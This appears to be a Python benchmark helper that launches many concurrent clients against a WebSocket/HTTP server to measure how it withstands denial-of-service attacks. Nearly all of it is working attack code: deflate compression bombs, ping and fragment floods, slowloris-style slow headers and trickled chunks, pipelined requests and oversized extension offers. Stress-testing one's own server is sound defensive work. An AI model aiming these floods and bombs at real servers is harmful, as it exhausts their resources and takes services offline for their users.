"""Clients that try to take from others what they share; see `bench_attacks.py`.

Run: ``attacker.py URL KIND CLIENTS BYTES SECONDS``. Every client opens a connection and sends up to its
share of BYTES, then keeps the connection until SECONDS are over. It ends earlier when the server closes it.
Printed, as JSON: what the clients were told (close codes, statuses), and how many bytes they could send.
Without arguments, it prints the kinds.
"""

from __future__ import annotations

import asyncio
import base64
import json
import os
import struct
import sys
import zlib
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from functools import cache
from typing import Any
from urllib.parse import urlsplit

KEY = base64.b64encode(bytes(16)).decode()
#: The decompressed size of a message: as large as the server allows, and below the size that limits check.
LARGE_BYTES, SMALL_BYTES = 15 << 20, 1 << 20
TEXT, BINARY, PING = 1, 2, 9


def frame(opcode: int, payload: bytes, *, rsv1: bool = False, fin: bool = True) -> bytes:
    """Return a client's frame, masked with zeros."""
    first = opcode | (0x40 if rsv1 else 0) | (0x80 if fin else 0)
    length = len(payload)
    if length < 126:
        size = bytes([0x80 | length])
    elif length < 65536:
        size = b"\xfe" + struct.pack("!H", length)
    else:
        size = b"\xff" + struct.pack("!Q", length)
    return bytes([first]) + size + bytes(4) + payload


@cache
def bomb(size_bytes: int, *, bits: int = 15) -> bytes:
    """Return zeros as a compressed message."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -bits)
    return (deflate.compress(bytes(size_bytes)) + deflate.flush(zlib.Z_SYNC_FLUSH))[:-4]


def in_frames(payload: bytes, size_bytes: int) -> bytes:
    """Return a compressed message in frames of a size."""
    parts = [payload[at : at + size_bytes] for at in range(0, len(payload), size_bytes)]
    last = len(parts) - 1
    return b"".join(
        frame(0 if at else BINARY, part, rsv1=not at, fin=at == last) for at, part in enumerate(parts)
    )


def final_blocks() -> bytes:
    """Return a message of empty deflate blocks, each of which ends its stream."""
    return frame(BINARY, b"\x03\x00" * 4000 + b"\x00", rsv1=True)


#: WebSocket attacks: what is sent again and again, and the parameters of the extension.
SOCKETS: dict[str, tuple[Callable[[], bytes], str]] = {
    "large bombs": (lambda: frame(BINARY, bomb(LARGE_BYTES), rsv1=True), ""),
    "small bombs": (lambda: frame(BINARY, bomb(SMALL_BYTES), rsv1=True), ""),
    "text bombs": (lambda: frame(TEXT, bomb(SMALL_BYTES), rsv1=True), ""),
    "bombs in frames": (lambda: in_frames(bomb(LARGE_BYTES), 16), ""),
    "bombs without context": (
        lambda: frame(BINARY, bomb(SMALL_BYTES), rsv1=True),
        "; client_no_context_takeover; server_no_context_takeover",
    ),
    "bombs in a small window": (
        lambda: frame(BINARY, bomb(SMALL_BYTES, bits=9), rsv1=True),
        "; client_max_window_bits=9",
    ),
    "final blocks": (final_blocks, ""),
    "one-byte messages": (lambda: frame(BINARY, b"x") * 1000, "none"),
    "compressed bytes": (lambda: frame(BINARY, bomb(1), rsv1=True) * 1000, ""),
    "empty fragments": (lambda: frame(BINARY, b"", fin=False) + frame(0, b"", fin=False) * 3000, "none"),
    "pings": (lambda: frame(PING, b"x" * 8) * 1000, "none"),
    "nothing": (lambda: b"", "none"),
}


def requests_in_a_row() -> bytes:
    return b"GET /plain HTTP/1.1\r\nHost: a\r\n\r\n" * 200


def tiny_chunks() -> bytes:
    return b"1\r\nx\r\n" * 2000


def header_lines() -> bytes:
    return b"a:\r\n" * 2000


#: HTTP attacks: what is sent first, what again and again, and the pause in between.
HTTP: dict[str, tuple[bytes, Callable[[], bytes], float]] = {
    "tiny chunks": (b"POST /plain HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n", tiny_chunks, 0),
    "trickled chunks": (
        b"POST /plain HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n",
        lambda: b"1\r\nx\r\n",
        0.05,
    ),
    "header lines": (b"GET /plain HTTP/1.1\r\nHost: a\r\n", header_lines, 0),
    "slow heads": (b"GET /plain HTTP/1.1\r\nHost: a\r\nX-Slow: ", lambda: b"x", 0.2),
    "pipelined requests": (b"", requests_in_a_row, 0),
    "half-open upgrades": (
        b"GET /app/echo HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n",
        lambda: b"x",
        0.5,
    ),
    "many offers": (
        b"GET /app/echo HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
        b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
        b"Sec-WebSocket-Extensions: "
        + b", ".join([b"permessage-deflate; client_max_window_bits=16"] * 1200)
        + b"\r\n\r\n",
        lambda: b"",
        0.2,
    ),
}
UNREAD = ("unread echoes", "unread pings")
KINDS = (*SOCKETS, *HTTP, *UNREAD)


@dataclass
class Seen:
    """What became of the clients."""

    ends: Counter[str] = field(default_factory=Counter)
    sent_bytes: int = 0


def repeated(first: bytes, piece: bytes, share_bytes: int) -> Iterator[bytes]:
    if first:
        yield first
    left = share_bytes
    while left > 0:
        yield piece
        left -= max(1, len(piece))


async def send_all(writer: asyncio.StreamWriter, parts: Iterator[bytes], pause_s: float, seen: Seen) -> None:
    with suppress(ConnectionError):
        for part in parts:
            writer.write(part)
            await writer.drain()
            seen.sent_bytes += len(part)
            await asyncio.sleep(pause_s)


async def frames(reader: asyncio.StreamReader) -> AsyncIterator[tuple[int, bytes]]:
    """Yield the frames that the server sends."""
    while True:
        first, second = await reader.readexactly(2)
        length = second & 0x7F
        if length == 126:
            (length,) = struct.unpack("!H", await reader.readexactly(2))
        elif length == 127:
            (length,) = struct.unpack("!Q", await reader.readexactly(8))
        yield first & 0x0F, await reader.readexactly(length)


async def end_of_socket(reader: asyncio.StreamReader) -> str:
    async for opcode, payload in frames(reader):
        if opcode == 8:
            return f"close code {struct.unpack('!H', payload[:2])[0]}"
    return "closed"


async def end_of_http(reader: asyncio.StreamReader) -> str:
    line = (await reader.readline()).decode("latin-1").strip()
    while await reader.read(65536):
        pass
    return line.partition(" ")[2][:3] or "closed"


async def open_socket(
    place: Any, path: str, parameters: str
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    reader, writer = await asyncio.open_connection(place.hostname, place.port)
    offer = "" if parameters == "none" else f"Sec-WebSocket-Extensions: permessage-deflate{parameters}\r\n"
    writer.write(
        f"GET {path} HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
        f"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {KEY}\r\n{offer}\r\n".encode()
    )
    head = await reader.readuntil(b"\r\n\r\n")
    if not head.startswith(b"HTTP/1.1 101"):
        raise RuntimeError(f"no WebSocket: {head!r}")
    return reader, writer


async def attack(place: Any, kind: str, share_bytes: int, seconds: float, seen: Seen) -> None:
    """Be one client."""
    end: Callable[[asyncio.StreamReader], Awaitable[str]] = end_of_socket
    pause_s = 0.0
    try:
        if kind in HTTP:
            first, piece, pause_s = HTTP[kind]
            reader, writer = await asyncio.open_connection(place.hostname, place.port)
            parts = repeated(first, piece(), share_bytes)
            end = end_of_http
        elif kind in UNREAD:
            reader, writer = await open_socket(place, "/app/echo", "none")
            data = frame(BINARY, os.urandom(60000)) if kind == "unread echoes" else frame(PING, b"x" * 100)
            parts = repeated(b"", data, share_bytes)
        else:
            make, parameters = SOCKETS[kind]
            reader, writer = await open_socket(place, "/app/sink", parameters)
            parts = repeated(b"", make(), share_bytes)
    except (OSError, asyncio.IncompleteReadError) as error:
        seen.ends[f"not connected: {type(error).__name__}"] += 1
        return
    sending = asyncio.create_task(send_all(writer, parts, pause_s, seen))
    try:
        async with asyncio.timeout(seconds):
            if kind in UNREAD:
                await asyncio.Future()
            seen.ends[await end(reader)] += 1
    except TimeoutError:
        seen.ends["open"] += 1
    except (ConnectionError, asyncio.IncompleteReadError) as error:
        seen.ends[type(error).__name__] += 1
    finally:
        sending.cancel()
        writer.transport.abort()


async def main() -> None:
    if len(sys.argv) == 1:
        print(",".join(KINDS))
        return
    url, kind, clients, total_bytes, seconds = sys.argv[1:]
    seen = Seen()
    count = int(clients)
    shares = int(total_bytes) // count
    await asyncio.gather(*[attack(urlsplit(url), kind, shares, float(seconds), seen) for _ in range(count)])
    print(json.dumps({"ends": seen.ends, "sent_bytes": seen.sent_bytes}))


if __name__ == "__main__":
    asyncio.run(main())
